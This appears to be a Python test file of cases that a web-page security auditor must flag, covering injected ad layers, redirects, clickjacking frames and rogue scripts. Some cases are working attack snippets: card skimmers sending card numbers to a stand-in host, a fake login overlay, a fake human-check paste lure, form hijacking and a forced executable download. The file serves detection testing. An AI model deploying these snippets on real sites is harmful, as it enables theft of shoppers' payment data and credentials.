"""More of what must alert: ways that the reference's cases do not show."""

from aiohttp import web

from auditor.evidence import Template
from tests.ads_cases.injected import AD, CARD, READY, SKIM, TWICE
from tests.ads_cases.site import DESKTOP, PHONE, Case, load_script

GTM_ADX = {"gtm": load_script("http://adx.test/a.js")}
TAG = ("third-party-tag", "tags.test")
STARS = ("third-party-tag", "stars.test")


def by_tag(name: str, script: str, **facts) -> Case:
    """A case of a stranger's script that the tag manager loads."""
    files = {"adx.test/a.js": script, **facts.pop("files", {})}
    return Case(name, "alert", *TAG, more=GTM_ADX, files=files, **facts)


def _bounce(request: web.Request, page: str) -> web.StreamResponse | str:
    came = "google." in request.headers.get("Referer", "")
    return web.HTTPFound("http://partner.test/click?aff=3") if came and "aff" not in request.query else page


def _with_layer(html: str) -> str:
    return html.replace("</body>", '<script src="http://isp.test/b.js"></script></body>')


SLIPPED_IN = [
    by_tag("S01 layer when the pointer leaves", f"document.addEventListener('mouseleave',()=>{{{AD}}},{{once:true}})"),
    by_tag("S02 layer after scrolling", f"addEventListener('scroll',()=>{{if(scrollY>300){AD}}},{{once:true}})"),
    by_tag("S03 back button leads away", READY % "history.pushState(1,'',location.href);addEventListener('popstate',()=>{location.href='http://deals.test/back'})"),
    by_tag("S04 search goes elsewhere", READY % "document.querySelector('form[role=search]').addEventListener('submit',e=>{e.preventDefault();location.href='http://finder.test/?q='+e.target.q.value})"),
    Case("S05 page reloads itself elsewhere", "alert", "own-server", "", head='<meta http-equiv="refresh" content="2;url=http://casino.test/">'),
    by_tag("S06 link that a script presses opens a window", READY % "const a=document.createElement('a');a.href='http://deals.test/w';a.target='_blank';document.body.append(a);a.click();a.remove()"),
    by_tag("S07 layer that is a frame of its own words", READY % "const f=document.createElement('iframe');f.style.cssText='position:fixed;left:0;bottom:0;width:100%;height:220px;border:0;z-index:99';f.srcdoc='<body style=margin:0><a href=http://deals.test/go target=_top style=display:block;height:220px;background:gold>Cheaper here</a>';document.body.append(f)"),
    by_tag("S08 modal dialog", READY % "const d=document.createElement('dialog');d.style.width='420px';d.innerHTML='<a href=\"http://deals.test/go\" style=\"display:block;height:240px;background:gold\">You have won</a>';document.body.append(d);d.showModal()"),
    by_tag("S09 links rewritten when pointed at", "document.addEventListener('mouseover',e=>{const a=e.target.closest('a');if(a)a.href='http://deals.test/r?u='+encodeURIComponent(a.href)},true)"),
    by_tag("S10 a finger is caught, a mouse is not", "document.addEventListener('touchend',e=>{if(e.target.closest('a')){e.preventDefault();location.href='http://deals.test/t'}},{capture:true,passive:false})", loads=((PHONE, "direct"),)),
    Case("S11 skimmer over a socket", "alert", "own-server", "", body=CARD, template=Template.CHECKOUT, type_card=True, more={"app": SKIM % "{const s=new WebSocket('ws://cdn-stat.test/s');s.onopen=()=>s.send(e.target.value)}"}),
    Case("S12 skimmer waits for all fields", "alert", "own-server", "", body='<main><form action="/pay" method="post"><input name="cardnumber" autocomplete="cc-number"><input autocomplete="cc-exp" name="expiry"><input autocomplete="cc-csc" name="cvc"></form></main>', template=Template.CHECKOUT, type_card=True, more={"app": "setInterval(()=>{const v=n=>document.querySelector('[name='+n+']').value;if(v('cardnumber').length>15&&v('cvc')&&v('expiry'))new Image().src='http://cdn-stat.test/i.gif?d='+[...v('cardnumber')].map(c=>c.charCodeAt(0).toString(16)).join('')},300);"}),
    by_tag("S13 layer asks for the password", READY % "const d=document.createElement('div');d.style.cssText='position:fixed;left:25%;top:20%;width:50%;height:50%;background:#fff;z-index:99';d.innerHTML='<h2>Your session has ended</h2><form onsubmit=\"return false\"><input name=mail type=email><input name=pw type=password><button>Sign in</button></form>';document.body.append(d)"),
    Case("S14 false human check", "alert", "own-server", "", body="<script>addEventListener('load',()=>{const d=document.createElement('div');d.style.cssText='position:fixed;inset:0;background:#fff;z-index:9999';d.innerHTML='<h2>Verify you are human</h2><ol><li>Press the Windows Key + R<li>Press CTRL + V<li>Press Enter</ol>';document.body.append(d)})</script>"),
    Case("S15 links hidden far from the screen", "alert", "own-server", "", body='<div style="position:absolute;left:-9999px;top:0"><a href="http://pills.test/cheap">cheap pills</a> <a href="http://pills.test/buy">buy pills</a></div>'),
    Case("S16 trusted script itself shows an advertisement", "alert", *STARS, more={"stars": READY % AD}),
    Case("S17 trusted script itself links words away", "alert", *STARS, more={"stars": READY % "const p=document.querySelector('main p:not(.price)');p.innerHTML=p.innerHTML.replace('stoneware','<a href=\"http://deals.test/s\">stoneware</a>')"}),
    Case("S18 own script opens a window under the page", "alert", "own-server", "", more={"app": "let once=0;document.addEventListener('click',()=>{if(!once++)window.open('http://deals.test/under')},true);"}),
    Case("S19 buy button replaced by a link", "alert", *TAG, more=GTM_ADX, files={"adx.test/a.js": READY % "document.querySelector('.add-to-cart').closest('form').outerHTML='<a class=\"add-to-cart\" href=\"http://deals.test/mug\" style=\"display:inline-block;padding:12px 20px;background:#06c;color:#fff\">Add to cart</a>'"}),
    Case("S20 search visitors bounce over a partner", "alert", "conditional", "", html=_bounce, loads=TWICE, files={"partner.test/click": lambda request: web.HTTPFound("http://shop.test/p/mug?aff=3")}),
    Case("S21 service worker changes the shop's script", "alert", "own-server", "", head="<script>navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js')</script>", files={"shop.test/sw.js": "self.addEventListener('install',e=>self.skipWaiting());self.addEventListener('activate',e=>e.waitUntil(clients.claim()));self.addEventListener('fetch',e=>{if(e.request.url.endsWith('/app.js'))e.respondWith(new Response(" + repr(AD) + ",{headers:{'content-type':'text/javascript'}}))});"}, loads=((DESKTOP, "returning"),), origin="http://shop.localhost"),
    by_tag("S22 advertisement in a frame in a frame", READY % "const f=document.createElement('iframe');f.src='http://adx.test/o.html';f.width=300;f.height=250;f.style.border=0;document.querySelector('main').prepend(f)", files={"adx.test/o.html": "<body style=margin:0><iframe src='http://creative.test/c.html' width=300 height=250 style=border:0></iframe>", "creative.test/c.html": "<body style='margin:0'><a href='http://brand.test/buy' target=_blank style='display:block;width:300px;height:250px;background:tomato'>Buy now</a>"}),
    by_tag("S23 form of the shop sent elsewhere", READY % "document.querySelector('main form').action='http://collect.test/c'"),
    by_tag("S24 layer made by a hidden worker's message", "const w=new Worker(URL.createObjectURL(new Blob(['setTimeout(()=>postMessage(1),500)'])));w.onmessage=()=>{" + AD + "}"),
    by_tag("S25 layer by an imported module", "import('http://adx.test/m.js')", files={"adx.test/m.js": f"{AD}export default 1"}),
    by_tag("S26 layer returns whenever it is removed", "const put=()=>{if(!document.getElementById('again')){const d=document.createElement('div');d.id='again';d.style.cssText='position:fixed;left:0;right:0;bottom:0;height:200px;background:gold;z-index:99';d.innerHTML='<a href=http://deals.test/go style=display:block;height:200px>Deal</a>';document.body.append(d)}};addEventListener('load',()=>{put();new MutationObserver(put).observe(document.body,{childList:true})})"),
    by_tag("S27 page that fights tools", "setInterval(()=>{debugger},50);" + READY % AD),
    Case("S28 layer in the HTML of the server", "alert", "own-server", "", body='<div style="position:fixed;left:0;right:0;bottom:0;height:220px;background:gold;z-index:99"><a href="http://deals.test/go" style="display:block;height:220px">Cheaper here</a></div>'),
    by_tag("S29 download that nobody asked for", "addEventListener('load',()=>setTimeout(()=>{const a=document.createElement('a');a.href='http://adx.test/setup.exe';a.download='';document.body.append(a);a.click()},300))", files={"adx.test/setup.exe": lambda request: web.Response(body=b"MZ", headers={"Content-Disposition": "attachment"})}),
    Case("S30 layer for the phone only", "alert", "conditional", "tags.test", more=GTM_ADX, files={"adx.test/a.js": "if(/Mobile/.test(navigator.userAgent)){" + AD + "}"}, loads=((DESKTOP, "direct"), (PHONE, "direct"))),
    by_tag("S31 layer once consent is given", "setInterval(()=>{if(!document.getElementById('cookie')&&!window.done){window.done=1;" + AD + "}},200)", body="<div id=cookie style='position:fixed;left:0;right:0;bottom:0;height:120px;background:#eee'><p>We use cookies.</p><button onclick=this.parentNode.remove()>Accept all</button><button onclick=this.parentNode.remove()>Reject all</button></div>", loads=((DESKTOP, "direct"), (DESKTOP, "accepted"))),
    by_tag("S32 sticky bar pushed in at the top", READY % "const d=document.createElement('div');d.style.cssText='position:sticky;top:0;height:90px;background:gold;z-index:50';d.innerHTML='<a href=http://deals.test/bar style=display:block;height:90px>Cheaper elsewhere</a>';document.body.prepend(d)"),
    by_tag("S33 picture of the product leads away", READY % "document.querySelector('main a').addEventListener('click',e=>{e.preventDefault();e.stopImmediatePropagation();window.open('http://deals.test/i')},true)"),
    by_tag("S34 layer of a canvas that catches presses", READY % "const c=document.createElement('canvas');c.style.cssText='position:fixed;left:0;top:0;width:100%;height:100%;opacity:.01;z-index:99';c.addEventListener('pointerdown',()=>window.open('http://deals.test/c'));document.body.append(c)"),
    by_tag("S35 advertisement of no usual size that leads to its maker", READY % "const f=document.createElement('iframe');f.src='http://adx.test/f.html';f.style.cssText='width:600px;height:210px;border:0';document.querySelector('main').prepend(f)", files={"adx.test/f.html": "<body style=margin:0><a href='http://adx.test/click' target=_blank style='display:block;height:210px;background:tomato'>Buy now</a>"}),
    Case("S36 presses of search visitors open a window", "alert", "conditional", "tags.test", more=GTM_ADX, files={"adx.test/a.js": "if(/google/.test(document.referrer)){let n=0;document.addEventListener('click',()=>{if(!n++)window.open('http://deals.test/u')},true)}"}, loads=((DESKTOP, "direct"), (DESKTOP, "search"))),
    by_tag("S37 box of the prices of others", READY % "const d=document.createElement('div');d.innerHTML='<b>Cheaper elsewhere</b>'+['deals','bargain','outlet'].map(n=>'<p><a href=\"http://'+n+'.test/mug\">'+n+' 12.90</a></p>').join('');document.querySelector('main').append(d)"),
    by_tag("S38 keys open a window too", "document.addEventListener('keydown',()=>window.open('http://deals.test/k'))"),
    Case("S39 vendor's frame goes over the whole page", "alert", *STARS, more={"stars": READY % "const f=document.createElement('iframe');f.src='http://promo.test/f.html';f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;z-index:999';document.body.append(f)"}, files={"promo.test/f.html": "<body style='margin:0;background:#fff'><a href='http://casino.test/' target=_top style='display:block;height:100vh'>Spin</a>"}),
    by_tag("S40 link that is there once somebody points at the price", READY % "const p=document.querySelector('.price');p.addEventListener('mouseover',()=>{p.innerHTML='19.00 EUR <a href=\"http://deals.test/mug\">12.90 elsewhere</a>'},{once:true})"),
    by_tag("S41 clear frame over the buy button", READY % "const r=document.querySelector('.add-to-cart').getBoundingClientRect();const f=document.createElement('iframe');f.src='http://adx.test/f.html';f.style.cssText=`position:absolute;left:${r.x}px;top:${r.y+scrollY}px;width:${r.width}px;height:${r.height}px;opacity:.001;border:0;z-index:99`;document.body.append(f)", files={"adx.test/f.html": "<body style=margin:0><a href='http://deals.test/go' target=_top style='display:block;height:60px'>x</a>"}),
    by_tag("S42 clear link over the picture of the product", READY % "const r=document.querySelector('main img').getBoundingClientRect();const a=document.createElement('a');a.href='http://deals.test/i';a.style.cssText=`position:absolute;left:${r.x}px;top:${r.y+scrollY}px;width:${r.width}px;height:${r.height}px;z-index:9`;document.body.append(a)"),
    Case("S43 layer for browsers that nobody steers", "alert", "conditional", "tags.test", more=GTM_ADX, files={"adx.test/a.js": "if(!navigator.webdriver){" + AD + "}"}, loads=((DESKTOP, "direct"), (DESKTOP, "plain"))),
    Case("N1 proxy puts a layer into the page", "alert", "network", "", network=_with_layer, loads=((DESKTOP, "direct"), (DESKTOP, "direct")), files={"isp.test/b.js": AD}),
    Case("N2 proxy puts a script into the page", "alert", "network", "", network=_with_layer, loads=((DESKTOP, "direct"), (DESKTOP, "direct")), files={"isp.test/b.js": "window.x=1"}),
    Case("N3 proxy takes the policy away", "alert", "network", "", network=str, policy="script-src *; object-src 'none'", loads=((DESKTOP, "direct"), (DESKTOP, "direct"))),
]  # fmt: skip
